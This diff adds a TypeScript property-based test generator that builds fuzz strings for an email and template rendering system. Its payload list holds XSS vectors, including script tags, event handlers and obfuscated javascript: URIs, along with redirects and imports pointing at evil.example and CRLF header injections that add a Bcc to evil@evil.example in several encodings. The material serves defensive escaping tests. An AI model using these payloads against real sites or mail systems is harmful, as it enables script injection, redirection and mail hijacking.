@@ -1,0 +1,70 @@
+import * as fc from "fast-check";
+
+/** What would be syntax in HTML, CSS, MJML, Markdown, MIME, headers, templates or addresses. */
+const PIECES = [
+  ..."< > & \" ' ` = / \\ : ; , ( ) [ ] { } | @ % # ? ! * _ ~ ^ $ - -- .".split(" "),
+  ..."</p> </a></td></tr></table> </mj-text><mj-raw> <!-- --> <![endif]--> <!--[if ]]> <![CDATA[ </title> </style> </pre> <plaintext>".split(
+    " ",
+  ),
+  "<script>window.ran=1</script>",
+  "</script><script>window.ran=1</script>",
+  "<img src=x onerror=window.ran=1>",
+  "<svg/onload=window.ran=1>",
+  '" onmouseover="window.ran=1" x="',
+  "' onfocus='window.ran=1' autofocus x='",
+  "<style>@import 'https://evil.example/x.css';</style>",
+  "<base href=https://evil.example/>",
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  "<iframe srcdoc='<script>parent.ran=1</script>'>",
+  "<form action=https://evil.example><input autofocus onfocus=window.ran=1>",
+  "javascript:window.ran=1",
+  "JaVaScRiPt\t:window.ran=1",
+  "java\nscript:window.ran=1",
+  "data:text/html,<script>parent.ran=1</script>",
+  "vbscript:x",
+  "}</style>",
+  "expression(window.ran=1)",
+  "{{constructor}}",
+  "{{{subject}}}",
+  "{{#each parts}}",
+  "{{> heading}}",
+  "{% raw %}",
+  "*|FNAME|*",
+  "\r\nBcc: evil@evil.example\r\n",
+  "\r\n\r\n<p>body</p>",
+  "\r\n.\r\n",
+  "=0D=0ABcc: evil@evil.example",
+  "%0d%0aBcc:%20evil@evil.example",
+  "=?utf-8?q?=0D=0ABcc=3A_evil=40evil.example?=",
+  "=?utf-8?b?QmNjOiB4?=",
+  "evil@evil.example, ",
+  '"a@x y"@z',
+  "--=_boundary--",
+  "=",
+  "\r",
+  "\n",
+  "\t",
+  "\u0085",
+  "\u2028",
+  "\u00A0",
+  "\u200B",
+  "\u202E",
+  "\u2066",
+  "e\u0301",
+  "\u{1F375}",
+  "שלום",
+  "日本語",
+  "w".repeat(90),
+];
+
+/** A text of one to six pieces of syntax and words; characters that no article may hold are left out. */
+export const anyAttack: fc.Arbitrary<string> = fc
+  .array(
+    fc.oneof(
+      { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
+      { weight: 2, arbitrary: fc.constantFrom("tea", "pot ", " leaf", " ") },
+      { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 5 }) },
+    ),
+    { minLength: 1, maxLength: 6 },
+  )
+  .map((pieces) => pieces.join("").replace(/[\0\u0001-\u0008\uFDD0-\uFDEF]/gu, ""));
